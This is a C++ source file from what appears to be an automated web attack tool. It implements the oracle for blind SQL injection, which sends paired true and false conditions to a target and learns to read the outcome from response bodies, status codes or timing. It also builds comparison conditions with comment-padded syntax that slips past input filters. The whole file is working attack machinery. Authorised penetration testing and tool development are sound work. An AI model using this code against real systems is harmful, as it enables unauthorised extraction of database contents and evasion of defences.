#include "core/attack/oracle.h"

#include <algorithm>
#include <array>

#include "core/base/random.h"

namespace parapet::attack {
namespace {

// Two answers of one kind differ by less; a hash or a long query by much more.
constexpr Duration kNoise{500};

bool is_client_error(int status) { return status >= 400 && status < 500 && status != 404; }

struct Operands {
    std::string big;
    std::string small;
};

// Two digits each, so that texts with them have the same length either way round.
Operands draw_operands(Random& random) {
    return {std::to_string(60 + below(random, 40)), std::to_string(10 + below(random, 40))};
}

bool all_alike(std::span<Answer const> answers, Detail detail, std::string const& print) {
    return std::all_of(answers.begin(), answers.end(),
                       [&](Answer const& each) { return fingerprint(each, detail) == print; });
}

bool none_alike(std::span<Answer const> answers, Detail detail, std::string const& print) {
    return std::none_of(answers.begin(), answers.end(),
                        [&](Answer const& each) { return fingerprint(each, detail) == print; });
}

struct Times {
    Duration least;
    Duration most;
};

Times times_of(std::span<Answer const> answers) {
    Times times{answers.front().took, answers.front().took};
    for (Answer const& each : answers) {
        times.least = std::min(times.least, each.took);
        times.most = std::max(times.most, each.took);
    }
    return times;
}

}  // namespace

std::string Oracle::greater(std::string_view expression, std::string_view number) const {
    std::string const left = "(" + std::string(expression) + ")";
    if (frame_.comparing == Comparing::Greater) return left + ">" + std::string(number);
    return left + "NOT/**/BETWEEN/**/0/**/AND/**/" + std::string(number);
}

std::string Oracle::at_least(std::string_view expression, std::string_view text) const {
    std::string const left = "(" + std::string(expression) + ")";
    if (frame_.comparing == Comparing::Greater) return left + ">=" + std::string(text);
    return left + "BETWEEN/**/" + std::string(text) + "/**/AND/**/char(1114111)";
}

std::string Oracle::plain_condition(std::string_view big, std::string_view small) const {
    return greater(big, small);
}

Answer Oracle::send(std::string_view condition) const {
    return entry_->send(frame_.around(condition));
}

bool Oracle::learn_by_body(Detail detail, std::span<Answer const> trues,
                           std::span<Answer const> falses) {
    std::string const no = fingerprint(falses.front(), detail);
    std::string const yes = fingerprint(trues.front(), detail);
    detail_ = detail;
    // One side has to be steady; the other (say, a growing list) need only never look like it.
    if (all_alike(falses, detail, no) && none_alike(trues, detail, no)) {
        sense_ = Sense::False;
        fingerprint_ = no;
        return true;
    }
    if (all_alike(trues, detail, yes) && none_alike(falses, detail, yes)) {
        sense_ = Sense::True;
        fingerprint_ = yes;
        return true;
    }
    return false;
}

bool Oracle::learn_by_time(std::span<Answer const> trues, std::span<Answer const> falses) {
    Times const yes = times_of(trues);
    Times const no = times_of(falses);
    if (yes.least > no.most + kNoise) {
        sense_ = Sense::Slow;
        threshold_ = (yes.least + no.most) / 2;
        return true;
    }
    if (no.least > yes.most + kNoise) {
        sense_ = Sense::Fast;
        threshold_ = (no.least + yes.most) / 2;
        return true;
    }
    return false;
}

// A refusal of the statement's own error would come only with the other outcome.
bool Oracle::is_refused_as_before(Answer const& answer, Detail detail) const {
    std::optional<Answer> const& before = entry_->refusal();
    return before && fingerprint(*before, detail) == fingerprint(answer, detail) &&
           answer.took < before->took + kNoise && before->took < answer.took + kNoise;
}

bool Oracle::learn(Detail closest) {
    std::array<Answer, 3> trues;
    std::array<Answer, 3> falses;
    for (std::size_t round = 0; round < trues.size(); ++round) {
        Operands const operands = draw_operands(entry_->target().random());
        auto const send_one = [&](bool outcome) {
            (outcome ? trues : falses)[round] =
                send(outcome ? plain_condition(operands.big, operands.small)
                             : plain_condition(operands.small, operands.big));
        };
        bool const first = frame_.goes_through_when;
        send_one(first);
        if (round == 0 && is_refused_as_before((first ? trues : falses)[0], closest)) return false;
        send_one(!first);
        if (round > 0) continue;
        // Most frames end here: nothing to be seen.
        std::string const yes = fingerprint(trues[0], closest);
        bool const slow = std::max(trues[0].took, falses[0].took) >
                          std::min(trues[0].took, falses[0].took) + kNoise;
        if (yes == fingerprint(falses[0], closest) && !slow) {
            if (is_client_error(falses[0].status)) entry_->remember_refusal(falses[0]);
            return false;
        }
    }
    for (Detail detail : kDetails) {
        if (detail >= closest && learn_by_body(detail, trues, falses)) return true;
    }
    return learn_by_time(trues, falses);
}

std::optional<Oracle> Oracle::find(Entry& entry, Frame const& frame) {
    std::optional<Detail> const closest = entry.steady_detail();
    if (!closest) return std::nullopt;
    Oracle oracle(entry, frame);
    if (!oracle.learn(*closest)) return std::nullopt;
    return oracle;
}

bool Oracle::ask(std::string_view condition) const {
    Answer const answer = send(condition);
    switch (sense_) {
        case Sense::True: return fingerprint(answer, detail_) == fingerprint_;
        case Sense::False: return fingerprint(answer, detail_) != fingerprint_;
        case Sense::Slow: return answer.took > threshold_;
        case Sense::Fast: return answer.took < threshold_;
    }
    return false;
}

std::string_view Oracle::told_by() const {
    if (sense_ == Sense::Slow || sense_ == Sense::Fast) return "the time it takes";
    return detail_ == Detail::Status ? "the status of the answer" : "the body of the answer";
}

}  // namespace parapet::attack
